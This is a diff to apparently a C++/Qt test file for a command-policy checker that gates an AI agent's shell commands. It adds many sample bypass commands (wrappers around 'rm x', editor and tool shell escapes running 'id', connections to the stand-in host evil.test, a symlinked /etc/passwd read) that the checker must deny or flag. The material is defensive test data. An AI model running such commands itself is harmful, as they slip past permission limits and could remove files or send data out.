@@ -2,8 +2,11 @@
 // SPDX-License-Identifier: MIT
 #include "base/formatted.h"
 #include "executor/policy/codexrules.h"
+#include "executor/shell/shelllinks.h"
 #include "executor/shell/shellreview.h"
 
+#include <QDir>
+#include <QTemporaryDir>
 #include <QTest>
 
 #include <array>
@@ -81,7 +84,7 @@ private Q_SLOTS:
         row("for i in $(a); do b; done", { "a", "b" });
         row("while a; do b; done", { "a", "b" });
         row("case $(a) in x) b;; esac", { "a", "b" });
-        row("echo ${x:$(a):1}", { "echo…", "a" });
+        row("echo ${x:$(a):1}", { "echo…", "a", "…" }); // what a prints is evaluated
         row("f() { rm x; }; f", { "rm·x", "f" });
         row("timeout 5 git push", { "timeout·5·git·push", "wrapped git·push" });
         row("nice -n 5 nohup make", { "nice·-n·5·nohup·make", "wrapped nohup·make", "wrapped make" });
@@ -174,7 +177,8 @@ private Q_SLOTS:
                  "flock -c 'rm x' f", "strace -fo x rm y", "eval -- rm x", "bash -c -- 'rm x'", "bash -c -x 'rm x'",
                  "bash -cx 'rm x'", "rbash -c 'rm x'", "sh.distrib -c 'rm x'", "bash -s <<< 'rm x'",
                  "bash -o posix -c 'rm x'", "setsid -wf rm x", "toybox rm x", "linux64 rm x", "chrt -T 5 -f 1 rm x",
-                 "find . -exec sh -c 'rm x' ';'" })
+                 "find . -exec sh -c 'rm x' ';'", "uv run rm x", "npx -y rm x", "poetry run rm x", "yarn exec rm x",
+                 "noglob rm x" })
             QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
     }
     void deniedProgramsStayDenied()
@@ -201,7 +205,8 @@ private Q_SLOTS:
                 "enable -f x y", "fc -s ls=rm", "systemd-run rm x", "gdb --args rm x", "runuser -c 'rm x'",
                 "sg root 'rm x'", "tmux new 'rm x'", "at now <<< 'rm x'", "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
                 "prlimit --cpu=1 rm x", "setarch x86_64 rm x", "unbuffer rm x", "nix-shell --run 'rm x'",
-                "valgrind rm x", "batch <<< 'rm x'", "batch < x", "echo x | batch", "parallel < x",
+                "valgrind rm x", "eatmydata rm x", "tini -- rm x", "cmd /c rm x", "uv run sudo rm x",
+                "uv run bash -c 'rm x'", "batch <<< 'rm x'", "batch < x", "echo x | batch", "parallel < x",
                 "parallel <<< 'rm x'", "gdb <<< 'shell rm x'", "pwsh -c 'rm x'", "pwsh -Command 'rm x'",
                 "powershell -EncodedCommand x", "echo 'rm x' | pwsh", "script -q /dev/null < x",
                 // Where file names are compared without case, these are the programs of the same name.
@@ -265,18 +270,206 @@ private Q_SLOTS:
             "{socat,ncat,echo,sqlite3,psql,mysql,dc,ed,tee} **" };
         QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
     }
+    void scriptsAndSettingsThatRunOthersAreNotAllowed_data()
+    {
+        QTest::addColumn<QByteArray>("command");
+        for (const char *command : { "sqlite3 x < file", "sqlite3 x.db < dump.sql", "psql < x.sql", "psql -f x.sql",
+                 "psql --file=x.sql", "psql -tAf x.sql", "dc -f x", "mysql < x", "mysql --pager=id",
+                 "sqlite3 -A -x -f y", "git -C /tmp/evil status", "git -C .. log", "git -C src/../../evil log",
+                 "git -C \"$X\" log", "git -C src -C /tmp/evil log", "cd /tmp/evil && git log", "cd /tmp/evil; git log",
+                 "cd .. && git log", "(cd /tmp/evil; git log)", "pushd /tmp/evil; git log", "cd \"$X\" && git log",
+                 "cd; git log", "bash -c 'cd /tmp/evil && git log'", "git remote-http origin http://a.test/x",
+                 "git remote-ext a b", "git credential fill", "git maintenance start",
+                 "git init --template=/tmp/evil x", "git clone --template /tmp/evil u", "git config core.pager list",
+                 "yq 'load(\"x\")' y", "yq --from-file x y", "convert msl:x y", "convert x 'mvg:y'", "convert '|id' x",
+                 "magick -script x", "convert x -write y z", "identify ephemeral:x" })
+            QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
+    }
+    void scriptsAndSettingsThatRunOthersAreNotAllowed()
+    {
+        QFETCH(QByteArray, command);
+        Policy policy;
+        policy.commands.allow = { "{git,sqlite3,psql,mysql,dc,yq,convert,magick,identify,cd,pushd,bash} **" };
+        policy.fileReads.allow = { "/project/**" };
+        QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
+    }
+    /// Each with a policy that allows its program with any arguments.
+    void programsOfOtherNamesAreKnown_data()
+    {
+        QTest::addColumn<QByteArray>("command");
+        for (const char *command : { "rvim -c '!id' x", "vimdiff '+!id' x", "gvim --cmd '!id'", "view -S x y",
+                 "vi -s x y", "ex -u x y", "vim -es x <<< '!id'", "emacsclient --eval x", "emacs -a id x",
+                 "nano -s id x", "pico --speller=id x", "kak -e '!id'", "lynx -cmd_script=x",
+                 "bsdtar --use-compress-program id -xf a", "tar xf h:a", "tar -cf me@h:a x", "cc -wrapper id x",
+                 "c++ -fplugin=x y", "gcc @x", "clang -Xclang -load x", "clang --config x y", "ld -plugin x",
+                 "rustc -C linker=id x", "ctest -S x", "cmake -C x .", "eslint --config /tmp/x y",
+                 "prettier --config=/tmp/x y", "pylint --init-hook=x y", "pylint --load-plugins=x y",
+                 "mypy --config-file /tmp/x y", "mocha -r /tmp/x", "helm install --post-renderer=id x y",
+                 "helm plugin install x", "aws configure set credential_process id", "gh alias set x '!id'",
+                 "gh config set pager id", "gh extension install x", "mongosh --eval x", "mongosh x.js",
+                 "duckdb -c '.shell id'", "duckdb -c \"copy x to '/tmp/y'\"", "duckdb -init x",
+                 "mariadb --plugin-dir=/tmp", "gnuplot x", "m4 x", "dc x", "conjure x", "xelatex -shell-escape x",
+                 "lualatex --shell-escape x", "latexmk -e 'system(id)'", "dvips -o '|id' x", "groff -U x",
+                 "pandoc -t x.lua y", "pandoc --defaults=x", "sox '|id' x", "gs -sOutputFile=%pipe%id x",
+                 "gs -sOutputFile='|id' x", "gs -dNOSAFER x", "exiftool -if 'system(id)' x", "exiftool -config x y",
+                 "r2 -c '!id' x", "tshark -X lua_script:x", "gpg --dirmngr-program id x", "gpg2 --exec-path /tmp x",
+                 "gpg --homedir /tmp/x y", "sendmail -C/tmp/x", "mutt -e x", "fzf --preview id",
+                 "fzf --bind 'enter:execute(id)'", "ip netns exec x id", "ip vrf exec x id", "tc -b x",
+                 "iptables --modprobe=id", "aria2c --on-download-complete=id h", "curl -K x", "curl --config=x",
+                 "wget --config=x h", "lftp -c '!id'", "lftp x <<< '!id'", "websocat exec:id -", "yt-dlp --exec id u",
+                 "youtube-dl --exec id u", "restic --password-command id x", "borg create --rsh=id x",
+                 "smbclient -c '!id' //h/x", "apt -c x update", "apt-get --config-file=x update", "rpm --eval '%(id)'",
+                 "rpm -E '%(id)'", "rpm --pipe id -qa", "dnf --setopt=x install y", "install --strip-program=id -s a b",
+                 "patch --ed x", "sdiff --diff-program=id a b", "diff3 --diff-program id a b c", "clang-tidy -load x y",
+                 "cppcheck --addon=x y", "ack --pager=id x", "ugrep --filter='*:id' x", "rsync --daemon --config=x",
+                 "ssh -I x.so h", "ssh-keygen -D x.so", "ssh-add -s x.so", "sshfs -o ssh_command=id h: x",
+                 "cvs -e id commit", "jj --config ui.pager=id log", "hash -p /bin/id ls", "enable -f x.so ls",
+                 "complete -C id ls", "mapfile -C id a", "bind -x '\"a\":id'", "fc -e id", "find . $X", "find $X",
+                 "bfs . -exec id ';'", "sort --o=/etc/x --compress=id x", "export GOFLAGS=-toolexec=id",
+                 "export TAR_OPTIONS=x", "export http_proxy=http://evil.test", "export VIMINIT=x" })
+            QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
+    }
+    void programsOfOtherNamesAreKnown()
+    {
+        QFETCH(QByteArray, command);
+        Policy policy;
+        policy.commands.allow = { command.split(' ').front().toStdString() + " **" };
+        QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
+    }
+    void ordinaryOptionsOfThemStayAllowed()
+    {
+        for (const char *command : { "vim x", "nano x", "emacs x", "tar -xzf x.tgz --strip-components=1",
+                 "gcc -O2 -o a a.c", "clang++ -std=c++20 a.cpp", "eslint --fix -f json src",
+                 "eslint -c .eslintrc.js src", "prettier --check .", "pytest -p no:cacheprovider -c setup.cfg -x",
+                 "mypy --config-file mypy.ini src", "mocha -r ts-node/register", "helm list", "aws s3 ls",
+                 "gh pr view 1", "gh config get pager", "duckdb x.db 'select 1'", "latexmk -pdf x",
+                 "pandoc -o x.html x.md", "gpg --verify x.sig x", "ip addr", "curl -sSL -XPOST https://a.test",
+                 "wget -q https://a.test", "rpm -qa", "apt-get install -y x", "rsync -av a b", "ssh h ls",
+                 "find \"$X\" -name '*.c'", "find . -name \"$X\"", "hash -r", "export FOO=x", "patch -p1 -i x" }) {
+            Policy policy;
+            policy.commands.allow = { std::string(command).substr(0, std::string(command).find(' ')) + " **" };
+            QVERIFY2(judged(policy, command) == ActionOutcome::Allow, command);
+        }
+    }
+    void arithmeticOnOutputIsUnknown_data()
+    {
+        QTest::addColumn<QByteArray>("command");
+        for (const char *command : { "n=$(cat x); echo $((n+1))", "n=`cat x`; ((n > 1))", "echo $(( $(cat x) + 1 ))",
+                 "n=$(cat x); m=$n; echo $((m))", "n=\"$(cat x)\"; [[ $n -gt 1 ]]", "n=$(cat x); [[ n -gt 1 ]]",
+                 "[[ $(cat x) -eq 0 ]]", "declare -i n=$(cat x)", "declare -i n; n=$(cat x)", "local -i n=$(cat x)",
+                 "n=$(cat x); let m=n+1", "let \"m=$(cat x)\"", "n=$(cat x); echo ${y:$n:1}",
+                 "n=$(cat x); echo ${y[$n]}", "n=$(cat x); y[$n]=1", "n=$(cat x); [[ -v $n ]]",
+                 "for n in $(cat x); do echo $((n)); done", "for n in *; do ((n)); done", "a=(*); echo $((a[0]))",
+                 "a=($(cat x)); ((a))", "read n < x; m=$n; echo $((m))", ": ${n:=$(cat x)}; echo $((n))",
+                 "x=y; y=$(cat z); echo $((x))", "printf -v n %s \"$(cat x)\"; echo $((n))",
+                 "set -- $(cat x); n=$(cat x); echo $(($1))", "n=$(cat x); for ((i = n; i < 5; i++)); do ls; done",
+                 "n=$(cat x); echo $((${!n}))", "export \"$(cat x)\"", "declare \"$X=1\"", "export $(cat x)",
+                 "echo $((a['$(cat x)']))", "x='a[$(cat x)]'; z[x]=1", "f() { echo $(($1)); }; f \"$(cat x)\"",
+                 "getopts a x; ((OPTARG))", "ls *(e:cat:)" })
+            QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
+    }
+    void arithmeticOnOutputIsUnknown()
+    {
+        QFETCH(QByteArray, command);
+        Policy policy;
+        policy.commands.allow = { "{cat,echo,ls,declare,local,read,printf,set,export,:} **" };
+        QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
+    }
+    void ordinaryArithmeticStaysAllowed()
+    {
+        Policy policy;
+        policy.commands.allow = { "{cat,echo,ls,declare,local,read,printf,set,export,:,date,wc,grep,nproc,sleep} **" };
+        for (const char *command : { "n=1; echo $((n+1))", "i=0; for f in *.c; do i=$((i+1)); done; echo $i",
+                 "a=$(date +%s); ls; b=$(date +%s); echo $((b - a))", "n=$(wc -l < x); echo $((n / 2))",
+                 "[[ $(cat x | wc -l) -gt 3 ]]", "[[ $(grep -c x y) -eq 0 ]]", "n=$(cat x); echo \"$n\"",
+                 "n=$(cat x); [[ $n == y ]]", "n=$(cat x); echo ${#n} $(( ${#n} + 1 ))", "echo $(($(nproc) - 1))",
+                 "while read line; do i=$((i+1)); done < x", "for i in 1 2 3; do echo $((i * 2)); sleep $((i)); done",
+                 "a=(x y); echo ${a[@]} ${a[1]}", "export A=$(cat x)", "declare -p x",
+                 "for ((i=0; i<3; i++)); do ls; done" })
+            QVERIFY2(judged(policy, command) == ActionOutcome::Allow, command);
+    }
+    void hostsInAnyFormAreJudged_data()
+    {
+        QTest::addColumn<QByteArray>("command");
+        for (const char *command :
+            { "gpg --keyserver evil.test --recv-keys 1", "gpg --keyserver=hkp://evil.test x", "gpg --recv-keys 1",
+                "logger -n evil.test x", "logger --server evil.test x", "nc evil 80", "nc -w 5 evil.test 80",
+                "telnet evil", "ftp evil", "sftp me@evil", "lftp evil", "git clone me@evil.test:x",
+                "git push evil.test:x main", "git remote add x evil:y", "curl -x evil.test:80 a.example.org",
+                "curl --proxy=evil.test a.example.org", "curl --resolve a.example.org:443:10.0.0.1 a.example.org",
+                "curl --connect-to ::evil.test: a.example.org", "ssh -J evil.test a.example.org",
+                "ssh -L 80:evil:80 a.example.org", "scp x evil:y", "rsync x evil::y", "psql -h evil", "psql -hevil",
+                "mysql --host=evil", "redis-cli -h evil ping", "socat - TCP:evil:80", "dig @evil x", "dig x.evil.test",
+                "ping -c 1 evil", "ping -c1 evil.test", "lynx evil.test", "mail me@evil.test",
+                "openssl s_client -proxy evil:80", "wget evil.test", "aria2c evil.test/x", "ssh-keyscan evil",
+                "nc \"$X\" 80", "curl \"$X\"", "git clone \"$X\"", "docker -H tcp://evil.test ps", "sshfs evil:x y" })
+            QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
+    }
+    void hostsInAnyFormAreJudged()
+    {
+        QFETCH(QByteArray, command);
+        Policy policy;
+        policy.commands.allow = { "**" };
+        policy.fetches.allow = { "*.example.org" };
+        QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
+    }
+    void listedHostsStayAllowed()
+    {
+        Policy policy;
+        policy.commands.allow = { "**" };
+        policy.fetches.allow = { "*.example.org", "localhost" };
+        for (const char *command : { "gpg --keyserver keys.example.org --verify x", "nc -z a.example.org 80",
+                 "nc -l 8080", "git clone git@git.example.org:x/y.git", "git push origin HEAD:main",
+                 "git fetch origin a:b", "ping -c 3 a.example.org", "curl -sSL -o out.html a.example.org",
+                 "curl -XPOST -H 'a: b.c' https://a.example.org/x", "psql -h localhost -c 'select 1'",
+                 "ssh -p 22 me@a.example.org ls", "rsync -a ./x a.example.org:y", "scp a.example.org:x .",
+                 "dig +short a.example.org", "git log evil.test:x", "logger hello" })
+            QVERIFY2(judged(policy, command) == ActionOutcome::Allow, command);
+    }
+    void linksOfArgumentsAreFollowed()
+    {
+        QTemporaryDir folder;
+        const QDir project(folder.path());
+        QVERIFY(project.mkdir(QStringLiteral("src")));
+        QVERIFY(QFile::link(QStringLiteral("/etc"), project.filePath(QStringLiteral("inside"))));
+        QVERIFY(QFile::link(QStringLiteral("/tmp"), project.filePath(QStringLiteral("repository"))));
+        Policy policy;
+        policy.commands.allow = { "**" };
+        policy.fileReads = { { "**" }, {}, { "/etc" }, {} };
+        policy.fileWrites = { { "**" }, {}, { "/etc" }, {} };
+        const ActionJudge judge(policy, { folder.path().toStdString(), "/home/user" });
+        const auto outcome = [&](std::string_view command, bool isHere) {
+            const ShellFacts found = facts(command);
+            return judgeShell(judge, isHere ? withLinksFollowed(found, judge.locations()) : found).outcome;
+        };
+        for (const char *command :
+            { "cat inside/passwd", "echo x > inside/y", "cd inside && cat passwd", "cp src/x inside/y" }) {
+            QVERIFY2(outcome(command, true) == ActionOutcome::Deny, command);
+            QVERIFY2(outcome(command, false) == ActionOutcome::Allow, command);
+        }
+        QCOMPARE(toString(outcome("tool --file=inside/passwd", true)), toString(ActionOutcome::Unknown));
+        QCOMPARE(toString(outcome("cat src/x", true)), toString(ActionOutcome::Allow));
+        policy.commands.allow = { "git **" };
+        const ActionJudge git(policy, judge.locations());
+        QCOMPARE(toString(judgeShell(git, withLinksFollowed(facts("git -C repository log"), git.locations())).outcome),
+            toString(ActionOutcome::Unknown));
+        QCOMPARE(toString(judgeShell(git, withLinksFollowed(facts("git -C src log"), git.locations())).outcome),
+            toString(ActionOutcome::Allow));
+    }
     void ordinaryArgumentsStayAllowed()
     {
         Policy policy;
-        policy.commands.allow = { "{find,git,tar,sort,sed,awk,grep,env,xargs,R,sqlite3,psql,dc,script} **" };
+        policy.commands.allow = { "{cd,find,git,tar,sort,sed,awk,grep,env,xargs,R,sqlite3,psql,dc,script} **" };
         for (const char *command : { "find . -name '*.c'", "git -c color.ui=never log", "git -C src status",
                  "git commit -m 'a: b :: c'", "tar -xzf x.tar.gz -C y", "sort -t, -k2 x", "sed -n '1,20p' x",
                  "sed -i 's|a|b|g' x", "sed -e ':a' -e '$!ba' -e 's/\\n/ /g' x", "sed '/^#/d;s/x/y/2' x",
                  "sed '$!N;P;D' x", "sed -E 's/(a)/\\1/; y/ab/cd/; 5q' x", "awk '{ print $1 }' x",
                  "awk -F, '$3 > 5 || $1 == \"x\"' x", "awk -v file=1 '{ s += $1 } END { print s }' x", "grep -rn x .",
                  "env -i LANG=C git log", "xargs -0 -n 1 grep x", "R --no-save", "sqlite3 x.db '.tables'",
-                 "sqlite3 -header x.db 'select a || b from c'", "sqlite3 x.db < dump.sql", "sqlite3 x <<< 'select 1'",
-                 "psql -c 'select 1' x", "psql -f x.sql", "dc -e '1 2 + p'", "script -q out git log" })
+                 "sqlite3 -header x.db 'select a || b from c'", "sqlite3 x <<< 'select 1'", "psql -c 'select 1' x",
+                 "psql -Upostgres -tA -c 'select 1'", "dc -e '1 2 + p'", "script -q out git log",
+                 "cd src && git status", "cd src; git log", "cd /project/src && git diff",
+                 "git clone https://a.test/x /tmp/y", "git config user.name list", "git push origin HEAD:main" })
             QVERIFY2(judged(policy, command) == ActionOutcome::Allow, command);
     }
     void mentionedPathsAreNotAllowed_data()
